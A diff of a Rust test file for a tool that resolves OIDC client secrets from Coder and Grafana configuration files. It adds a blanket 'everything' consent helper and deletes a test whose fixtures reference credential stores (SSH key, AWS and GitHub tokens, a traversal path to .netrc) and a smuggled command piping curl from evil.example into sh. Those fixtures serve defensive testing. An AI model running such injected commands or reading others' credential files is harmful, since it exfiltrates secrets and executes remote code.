@@ -7,16 +7,17 @@ use usher::apps::{Guide, catalogue};
 use usher::base::Secret;
 use usher::engine::Field;
 use usher::engine::effect::{Around, Want};
+use usher::engine::reference::Consent;
 use usher::engine::search::{Look, Search};
 
-const SECRET: &str = "abcdefghijklmnopqrstuvwxyz0123456789";
+pub(crate) const SECRET: &str = "abcdefghijklmnopqrstuvwxyz0123456789";
 
 fn guides() -> Vec<Guide> {
     catalogue::cards().iter().filter_map(|card| catalogue::open(card.id).ok()).collect()
 }
 
 /// What the computer has around the file: variables by name, files by path.
-fn gather(wants: &[Want], has: &BTreeMap<&str, &str>) -> Around {
+pub(crate) fn gather(wants: &[Want], has: &BTreeMap<&str, &str>) -> Around {
     let known = |name: &str| has.get(name).map(|text| Secret::new(*text));
     let mut around = Around::default();
     for want in wants {
@@ -24,7 +25,7 @@ fn gather(wants: &[Want], has: &BTreeMap<&str, &str>) -> Around {
             Want::Variable(name) => {
                 around.variables.insert(name.clone(), known(name));
             }
-            Want::File(path) => {
+            Want::File { path, .. } => {
                 around.files.insert(path.clone(), known(&path.display().to_string()));
             }
             Want::Manifests(folder) => {
@@ -37,9 +38,18 @@ fn gather(wants: &[Want], has: &BTreeMap<&str, &str>) -> Around {
     around
 }
 
-fn look(app: &str, file: &str, text: &str, has: &[(&str, &str)]) -> Look {
+/// The person agreed beforehand to what can be agreed to.
+pub(crate) fn agreed() -> Consent {
+    Consent { everything: true, ..Consent::default() }
+}
+
+pub(crate) fn look(app: &str, file: &str, text: &str, has: &[(&str, &str)]) -> Look {
+    look_with(agreed(), app, file, text, has)
+}
+
+pub(crate) fn look_with(consent: Consent, app: &str, file: &str, text: &str, has: &[(&str, &str)]) -> Look {
     let all = guides();
-    let mut search = Search::new(Path::new(file), Secret::new(text));
+    let mut search = Search::new(Path::new(file), Secret::new(text)).with_consent(consent);
     let fitting: Vec<String> = search.candidates(&all).into_iter().map(|one| one.id).collect();
     assert_eq!(fitting, [app], "{text}");
     let guide = all.iter().find(|guide| guide.id == app).expect("a guide");
@@ -54,11 +64,11 @@ fn look(app: &str, file: &str, text: &str, has: &[(&str, &str)]) -> Look {
     }
 }
 
-fn value(look: &Look, field: &Field) -> Option<String> {
+pub(crate) fn value(look: &Look, field: &Field) -> Option<String> {
     look.adopted.values.get(field).map(|given| given.text.reveal().to_owned())
 }
 
-fn env(secret: &str) -> String {
+pub(crate) fn env(secret: &str) -> String {
     format!(
         "CODER_ACCESS_URL=https://coder.example.com\nCODER_OIDC_ISSUER_URL=https://example.okta.com\n\
          CODER_OIDC_CLIENT_ID=0oa8x2k4mQ1vJ7dT5e6\n{secret}\n"
@@ -93,8 +103,8 @@ fn every_way_to_a_secret_on_this_computer_is_followed() {
         (
             "a variable",
             "/etc/coder.env",
-            env("CODER_OIDC_CLIENT_SECRET=$OKTA_SECRET"),
-            &[("OKTA_SECRET", SECRET)],
+            env("CODER_OIDC_CLIENT_SECRET=$CODER_OIDC_CLIENT_SECRET"),
+            &[("CODER_OIDC_CLIENT_SECRET", SECRET)],
         ),
         (
             "a default",
@@ -105,8 +115,8 @@ fn every_way_to_a_secret_on_this_computer_is_followed() {
         (
             "a file under _FILE",
             "/etc/coder.env",
-            env("CODER_OIDC_CLIENT_SECRET_FILE=/run/secrets/okta"),
-            &[("/run/secrets/okta", "abcdefghijklmnopqrstuvwxyz0123456789\n")],
+            env("CODER_OIDC_CLIENT_SECRET_FILE=/etc/secrets/okta"),
+            &[("/etc/secrets/okta", "abcdefghijklmnopqrstuvwxyz0123456789\n")],
         ),
         (
             "a file beside",
@@ -160,10 +170,12 @@ fn every_way_to_a_secret_on_this_computer_is_followed() {
 #[test]
 fn grafana_tells_its_values_through_files_variables_and_its_own_addresses() {
     let text = "[server]\nroot_url = https://grafana.example.com/sub/\n[auth.okta]\nenabled = true\n\
-                client_id = $__env{OKTA_ID}\nclient_secret = $__file{/etc/secrets/okta}\n\
+                client_id = $__env{GF_AUTH_OKTA_CLIENT_ID}\nclient_secret = $__file{/etc/grafana/secrets/okta}\n\
                 auth_url = https://example.okta.com/oauth2/v1/authorize\nscopes = openid profile email\n";
-    let has =
-        [("OKTA_ID", "0oa8x2k4mQ1vJ7dT5e6"), ("/etc/secrets/okta", "abcdefghijklmnopqrstuvwxyz0123456789\n")];
+    let has = [
+        ("GF_AUTH_OKTA_CLIENT_ID", "0oa8x2k4mQ1vJ7dT5e6"),
+        ("/etc/grafana/secrets/okta", "abcdefghijklmnopqrstuvwxyz0123456789\n"),
+    ];
     let found = look("grafana", "/etc/grafana/grafana.ini", text, &has);
     assert_eq!(value(&found, &Field::Secret).as_deref(), Some(SECRET));
     assert_eq!(value(&found, &Field::ClientId).as_deref(), Some("0oa8x2k4mQ1vJ7dT5e6"));
@@ -174,7 +186,7 @@ fn grafana_tells_its_values_through_files_variables_and_its_own_addresses() {
     let origin = |field: &Field| found.adopted.values[field].origin.say();
     assert_eq!(
         origin(&Field::Secret),
-        "Found in grafana.ini, line 6, which takes it from /etc/secrets/okta."
+        "Found in grafana.ini, line 6, which takes it from /etc/grafana/secrets/okta."
     );
     assert_eq!(origin(&Field::Answer("base_url".to_owned())), "Found in grafana.ini, line 2.");
     let custom = text.replace("/oauth2/v1/", "/oauth2/default/v1/");
@@ -188,11 +200,11 @@ fn what_cannot_be_had_here_is_named_with_the_flag_that_gives_it() {
         ("CODER_OIDC_CLIENT_SECRET=op://Work/okta/secret", "op read 'op://Work/okta/secret'"),
         ("CODER_OIDC_CLIENT_SECRET=vault:secret/data/okta#secret", "Vault, vault:secret/data/okta#secret"),
         ("CODER_OIDC_CLIENT_SECRET=ENC[AES256_GCM,data:abc,iv:def]", "sealed by SOPS"),
-        ("CODER_OIDC_CLIENT_SECRET=${OKTA_SECRET}", "the variable OKTA_SECRET, which is not set here"),
         (
-            "CODER_OIDC_CLIENT_SECRET_FILE=/run/secrets/okta",
-            "the file /run/secrets/okta, which cannot be read",
+            "CODER_OIDC_CLIENT_SECRET=${CODER_OIDC_CLIENT_SECRET}",
+            "the variable CODER_OIDC_CLIENT_SECRET, which is not set here",
         ),
+        ("CODER_OIDC_CLIENT_SECRET_FILE=secrets/okta", "the file secrets/okta, which cannot be read"),
         ("CODER_OIDC_CLIENT_SECRET=$(cat /etc/okta)", "which Usher cannot follow"),
         ("CODER_OIDC_CLIENT_SECRET=arn:aws:secretsmanager:eu-west-1:1:secret:okta", "from AWS"),
     ];
@@ -214,33 +226,4 @@ fn what_cannot_be_had_here_is_named_with_the_flag_that_gives_it() {
 fn values_that_lead_in_a_circle_end_as_open() {
     let look = look("coder", "/etc/coder.env", &env("A=${B}\nB=${A}\nCODER_OIDC_CLIENT_SECRET=${A}"), &[]);
     assert_eq!(look.adopted.open.len(), 1, "{look:?}");
-}
-
-/// A file from anywhere names the issuer to which its values are sent, so it must not reach what belongs to others.
-#[test]
-fn a_hostile_file_cannot_send_off_what_belongs_to_other_programs() {
-    let theirs = [
-        ("AWS_SECRET_ACCESS_KEY", SECRET),
-        ("GITHUB_TOKEN", SECRET),
-        ("/home/ana/.vault-token", SECRET),
-        ("/home/ana/.ssh/id_ed25519", SECRET),
-        ("/etc/../home/ana/.netrc", SECRET),
-        ("/srv/several-lines", "-----BEGIN KEY-----\nabcdefghijklmnopqrstuvwxyz\n"),
-    ];
-    let cases = [
-        ("CODER_OIDC_CLIENT_SECRET=${AWS_SECRET_ACCESS_KEY}", "does not say that it is about signing in"),
-        ("CODER_OIDC_CLIENT_SECRET=${GITHUB_TOKEN}", "does not say that it is about signing in"),
-        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.vault-token", "in a hidden place"),
-        ("CODER_OIDC_CLIENT_SECRET_FILE=/home/ana/.ssh/id_ed25519", "in a hidden place"),
-        ("CODER_OIDC_CLIENT_SECRET_FILE=../home/ana/.netrc", "in a hidden place"),
-        ("CODER_OIDC_CLIENT_SECRET_FILE=/srv/several-lines", "cannot be read"),
-        ("CODER_OIDC_CLIENT_SECRET=\"op://a/b'; curl evil.example | sh; '\"", "which Usher cannot follow"),
-    ];
-    for (line, said) in cases {
-        let look = look("coder", "/etc/coder.env", &env(line), &theirs);
-        let [open] = look.adopted.open.as_slice() else { panic!("{line}: {look:?}") };
-        assert!(open.say().contains(said), "{line}: {}", open.say());
-        assert!(!open.say().contains("op read"), "{line}: {}", open.say());
-        assert_eq!(value(&look, &Field::Secret), None, "{line}");
-    }
 }
